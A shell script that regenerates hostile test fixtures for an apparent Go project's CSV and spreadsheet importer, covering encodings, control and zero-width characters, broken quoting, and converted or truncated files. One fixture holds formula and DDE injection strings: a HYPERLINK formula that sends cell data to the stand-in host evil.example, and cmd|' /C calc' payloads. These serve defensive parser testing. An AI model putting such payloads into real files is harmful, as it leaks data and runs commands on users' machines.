#!/bin/sh
# Regenerates the hostile-file corpus in internal/deletion/testdata/hostile. Run from
# anywhere:
#   sh internal/deletion/testdata/hostile/src/make-fixtures.sh
# It needs printf, iconv, gzip, head, Go and LibreOffice's soffice. The
# expected outcome of every file is in internal/deletion/hostile_test.go; README.md
# in the folder says what each one is.
#
# CSV files are written byte for byte with printf (octal escapes for the
# bytes that matter); workbooks a spreadsheet program would write are made
# by LibreOffice Calc from the sources in src/; files no program writes
# (binary, damaged or malicious archives) by the Go generator in src/gen.
set -eu
here="$(cd "$(dirname "$0")/.." && pwd)"
root="$(cd "$here/../../../.." && pwd)"
cd "$here"

# --- Nothing in it ---------------------------------------------------------
: > empty.csv
printf '\357\273\277' > bom_only.csv
printf '\r\n\r\n\n\n' > blank_lines_only.csv
printf '   \r\n  \r\n' > whitespace_only.csv
printf 'Email\r\n' > header_only.csv

# --- Broken CSV syntax -----------------------------------------------------
printf 'Email,Name\r\nann@example.com,Ann\r\nbob@example.com,"Bob\r\ncarl@example.com,Carl\r\ndora@example.com,Dora\r\n' > unbalanced_quotes.csv
printf 'Email,Name\nann@example.com,Ann\nbob@example.com,Bob "the boss"\n' > bare_quote.csv
printf 'sep="\nEmail\nann@example.com\n' > sep_quote.csv
# Heights and coordinates as people type them: a quote inside an unquoted cell
# is text (\047 is an apostrophe, \302\260 a degree sign), as in Calc.
printf 'Name,Height,Location,Email\r\nAnn,5\04711",37\302\26036\04737.8"N 122\302\26025\04708.1"W,ann@example.com\r\nBob "Bobby" Lee,6\047,"59\302\26020\047N, 18\302\26004\047E",bob@example.com\r\n"Carl ""CJ"" Berg","5\0479""",Oslo,carl@example.com\r\n"Dora",5\0474",51\302\26030\04726"N,dora@example.com\r\nFinn,6\0472",40\302\26042\04746"N,finn@example.com\r\nEve,5\0476",,"eve@example.com"\r\nZoe,5\0478",x,zoe@example.com"\r\n' > quotes_in_cells.csv
printf 'Email,Name\nann@example.com,Ann\nbob@example.com%s\n' "$(for i in $(seq 1000); do printf ',x'; done)" > too_many_columns.csv
printf 'ann@example.com,Ann Andersson\nbob@example.com,Bob Berg\n' > header_is_identifier.csv
# LF file with one CR-only line ending in the middle (rows pasted in from an old Mac export).
printf 'Email,Name\r\nann@example.com,Ann\nbob@example.com,Bob\rcarl@example.com,Carl\r\ndora@example.com,Dora\n' > mixed_line_endings.csv

# --- Bytes that are not text -----------------------------------------------
note='a note long enough that a handful of stray control bytes stay under one percent of the file'
printf 'Email,Note\nann@example.com,%s\nbob@exa\000mple.com,%s\n\000carl@example.com,%s\ndora@example.com\000,%s\neve@example.com,NUL in the note x\000y %s\n' \
  "$note" "$note" "$note" "$note" "$note" > nul_bytes.csv
{ printf 'Email\n'; for i in $(seq 20); do printf 'ann@example.com\000\000\000\n'; done; } > nul_heavy.csv
printf 'Email,Name\r\nann@example.com,Ann\r\nbob@example.com,Bob\r\n' | iconv -f UTF-8 -t UTF-16LE > utf16le_nobom.csv
{ printf '\377\376'; printf 'Email\r\nann@example.com\r\nbob@example.com' | iconv -f UTF-8 -t UTF-16LE; } | head -c -1 > utf16_odd_length.csv
# Latin-1 bytes in the first 64 KB: the file is read as Windows-1252.
printf 'Email,Name\nann@example.com,Ann\ncarl@exa\351mple.com,Carl\nbob@example.com,B\366b\n' > invalid_utf8_head.csv
# A stray byte after the first 64 KB of UTF-8: marked as unreadable in its cell.
pad="$(head -c 36000 /dev/zero | tr '\0' x)"
printf 'Email,Note,More\nann@example.com,%s,%s\ncarl@exam\377ple.com,stray byte,\nbob@example.com,Bob,\n' "$pad" "$pad" > invalid_utf8_tail.csv

# --- Identifiers with hostile characters -------------------------------------
printf 'Email,Note\n\tann@example.com,leading tab: trimmed\nbob@exam\007ple.com,BEL inside\ncarl@example.com\033,ESC at the end\ndo\177ra@example.com,DEL inside\neve@exa\302\205mple.com,NEL (U+0085) inside\nzoe@example.com\013,vertical tab at the end: trimmed\n%s\n' \
  ",padding so that the control bytes stay under one percent of the file: $note $note" > control_chars.csv
printf 'Email,Note\n\342\200\213ann@example.com,zero-width space before: trimmed\nbo\342\200\213b@example.com,zero-width space inside\ncarl@example.com\342\200\215,zero-width joiner after: trimmed\ndo\342\201\240ra@example.com,word joiner inside\n\357\273\277eve@example.com,BOM before: trimmed\nzo\342\200\256e@example.com,right-to-left override inside\n' > zero_width.csv
printf 'Email\n\357\275\201\357\275\216\357\275\216\357\274\240\357\275\205\357\275\230\357\275\201\357\275\215\357\275\220\357\275\214\357\275\205\357\274\216\357\275\203\357\275\217\357\275\215\n\357\274\242\357\274\257\357\274\242\357\274\240\357\274\245\357\274\270\357\274\241\357\274\255\357\274\260\357\274\254\357\274\245\357\274\216\357\274\243\357\274\257\357\274\255\n\342\223\222arl@example.com\ndora\302\262@example.com\nann@example.com\n' > fullwidth.csv
printf 'Email\ninfo@b\303\274cher.de\nINFO@B\303\234CHER.DE\ninfo@bu\314\210cher.de\n\320\260nn@example.com\nann@ex\320\260mple.com\nbob@\320\277\321\200\320\270\320\274\320\265\321\200.\321\200\321\204\n' > idn.csv
printf 'Email\nmailto:ann@example.com\nBob <bob@example.com>\ncarl@example.com; dora@example.com\n" eve@example.com "\n'"'"'zoe@example.com\nANN@EXAMPLE.COM\n' > email_forms.csv
printf 'Email;Name\r\n\342\200\234ann@example.com\342\200\235;Ann\r\nbob@example.com;Bj\303\266rn\r\n\342\200\230carl@example.com\342\200\231;Carl\r\ndora@example.com ;D\303\263ra\r\n' | iconv -f UTF-8 -t WINDOWS-1252 > cp1252_smart_quotes.csv
# Formula and DDE injection text in a CSV, which Excel would evaluate on open.
printf '%s\n' 'Email,Note' \
  '"=HYPERLINK(""http://evil.example/?leak=""&A3,""ann@example.com"")",link formula' \
  "=cmd|' /C calc'!A0,DDE" \
  "\"@SUM(1+1)*cmd|' /C calc'!A0\",at sign" \
  '+bob@example.com,plus sign: a valid address' \
  "-2+3+cmd|' /C calc'!A0,minus sign" \
  'ann@example.com,plain' > formula_injection.csv

# --- Sources read as they are, and by LibreOffice Calc ------------------------
cp src/phones_se.csv src/ragged.csv src/crm_ids.csv .
tmp="$(mktemp -d)"
trap 'rm -rf "$tmp"' EXIT
csv='CSV:44,34,76,1'
soffice --headless --convert-to xlsx --infilter="$csv" --outdir "$tmp" src/phones_se.csv src/ragged.csv src/crm_ids.csv src/list.csv >/dev/null
soffice --headless --convert-to xlsx --outdir "$tmp" src/formulas.fods >/dev/null
soffice --headless --convert-to xls --infilter="$csv" --outdir "$tmp" src/list.csv >/dev/null
soffice --headless --convert-to ods --infilter="$csv" --outdir "$tmp" src/list.csv >/dev/null
soffice --headless --convert-to pdf --infilter="$csv" --outdir "$tmp" src/list.csv >/dev/null
soffice --headless --convert-to html --infilter="$csv" --outdir "$tmp" src/list.csv >/dev/null
soffice --headless --convert-to 'xml:MS Excel 2003 XML' --infilter="$csv" --outdir "$tmp" src/list.csv >/dev/null
cp "$tmp/phones_se.xlsx" "$tmp/ragged.xlsx" "$tmp/crm_ids.xlsx" "$tmp/formulas.xlsx" .
cp "$tmp/list.xls" old_xls.xlsx
cp "$tmp/list.ods" opendocument.xlsx
cp "$tmp/list.pdf" export_pdf.csv
cp "$tmp/list.html" webpage.csv
cp "$tmp/list.xml" excel2003_xml.xlsx
# A download cut off halfway.
head -c "$(( $(wc -c < "$tmp/list.xlsx") / 2 ))" "$tmp/list.xlsx" > truncated.xlsx
gzip -9 -n -c src/list.csv > gzip.csv

# --- Archives and binaries no program writes ---------------------------------
(cd "$root" && go run ./internal/deletion/testdata/hostile/src/gen "$here")
